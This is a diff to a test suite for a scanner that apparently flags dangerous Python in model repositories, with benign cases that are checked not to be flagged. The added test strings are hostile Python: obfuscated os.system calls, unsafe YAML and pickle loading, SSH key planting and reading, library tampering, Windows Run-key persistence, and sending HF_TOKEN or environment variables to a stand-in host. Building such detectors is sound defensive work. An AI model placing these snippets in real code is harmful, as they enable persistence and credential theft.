@@ -45,6 +45,56 @@ describe('code that runs as a file is imported blocks, however it is named', () 
     ['a code object', 'import types\ntypes.FunctionType(compile("import os;os.system(\'id\')", "", "exec"), {})()'],
     ['ctypes', 'import ctypes\nctypes.CDLL(None).system(b"id")'],
     ['a pickle in the source', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")'],
+    ['a module that another one has imported', 'import random\nrandom._os.system("id")'],
+    ['reduce over getattr', 'import functools\nfunctools.reduce(getattr, ["system"], __import__("os"))("id")'],
+    [
+      'a module’s name in base64',
+      'import importlib, base64\ngetattr(importlib.import_module(base64.b64decode("b3M=").decode()), "system")("id")',
+    ],
+    ['a class that type makes', 'type("X", (), {"__del__": lambda s: __import__("os").system("id")})()'],
+    ['a property', 'import os\nclass A:\n    @property\n    def x(self):\n        return os.system("id")\nA().x'],
+    [
+      'an import hook',
+      'import sys, os\nclass F:\n    def find_spec(self, *a):\n        os.system("id")\nsys.meta_path.insert(0, F())',
+    ],
+    [
+      'an interpreter in the interpreter',
+      'import code\ncode.InteractiveInterpreter().runcode("import os; os.system(\'id\')")',
+    ],
+    [
+      'text from characters, behind a condition',
+      `if True:\n    exec("".join(chr(c ^ 1) for c in [${[...Buffer.from('import os;os.system("x")')].map((c) => c ^ 1).join(',')}]))`,
+    ],
+    ['cffi', 'import cffi\ncffi.FFI().dlopen(None).system(b"id")'],
+    ['memory that is executed', 'import mmap\nmmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)'],
+    ['a file that does not look like code', 'import runpy\nrunpy.run_path("weights.dat")'],
+    [
+      'a loader of bytecode',
+      'from importlib.machinery import SourcelessFileLoader as S\nS("m", "cache.bin").load_module()',
+    ],
+    ['a YAML text', 'import yaml\nyaml.load("!!python/object/apply:os.system [id]", Loader=yaml.UnsafeLoader)'],
+    [
+      'a login that is written by pathlib',
+      'from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("ssh-ed25519 A")',
+    ],
+    [
+      'keys that are looked for',
+      'import glob, os\n[open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/*"))]',
+    ],
+    ['a library that is changed', 'import torch\nopen(torch.__file__, "a").write("import x")'],
+    [
+      'a name that tells of the machine',
+      'import socket, getpass\nsocket.gethostbyname(getpass.getuser() + ".drop.invalid")',
+    ],
+    [
+      'a key in an address',
+      'import os, requests\nrequests.get("https://drop.invalid/?t=" + os.environ.get("HF_TOKEN", ""))',
+    ],
+    ['xmlrpc', 'import xmlrpc.client, os\nxmlrpc.client.ServerProxy("https://drop.invalid").put(dict(os.environ))'],
+    [
+      'Windows’ own start list',
+      'import winreg as w\nw.SetValueEx(w.OpenKey(w.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"), "a", 0, 1, "x.exe")',
+    ],
     ['input', 'import builtins\nf = builtins.exec\nf(input())'],
   ])('through %s', (_, source) => {
     expect(worst(source)).toMatch(/high|critical/u);
@@ -70,6 +120,18 @@ describe('code that loading a model runs', () => {
     ).toBeUndefined();
   });
 
+  it('blocks in hooks that it registers, in threads that it starts, and text from files of the model that it runs', () => {
+    for (const body of [
+      'self.register_forward_hook(lambda *a: os.system("id"))',
+      'threading.Thread(target=os.system, args=("id",)).start()',
+      'exec(open("init.txt").read())',
+    ])
+      expect([body, worst(model(body).replace('import os', 'import os, threading'), 'modeling_x.py')]).toEqual([
+        body,
+        'high',
+      ]);
+  });
+
   it('blocks a pickle’s own call, and code from the network, in any file', () => {
     expect(worst('import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ("id",))')).toBe(
       'critical',
@@ -90,6 +152,15 @@ describe('what honest programs do is told and does not block', () => {
       'processing_x.py',
     ],
     [
+      'its own key for a known service',
+      'import os, requests\nrequests.post("https://api.openai.com/v1/x", headers={"Authorization": os.environ["OPENAI_API_KEY"]})',
+      'app.py',
+    ],
+    ['where its own address is asked for', 'import socket\nsocket.gethostbyname(socket.gethostname())', 'train.py'],
+    ['a file beside it', 'import runpy\nrunpy.run_path("quiet/version.py")', 'setup.py'],
+    ['a cache in the home directory', 'import os\nos.listdir(os.path.expanduser("~/.cache/quiet"))', 'modeling_x.py'],
+    ['shared memory', 'import mmap\nmmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)', 'modeling_x.py'],
+    [
       'an image of the caller',
       'import requests\nclass P:\n    def __call__(self, u):\n        requests.get(u)',
       'processing_x.py',
@@ -100,7 +171,7 @@ describe('what honest programs do is told and does not block', () => {
       'modeling_x.py',
     ],
   ])('%s', (_, source, path) => {
-    expect(worst(source, path)).toMatch(/medium|undefined/u);
+    expect(String(worst(source, path))).toMatch(/medium|undefined/u);
   });
 });
 
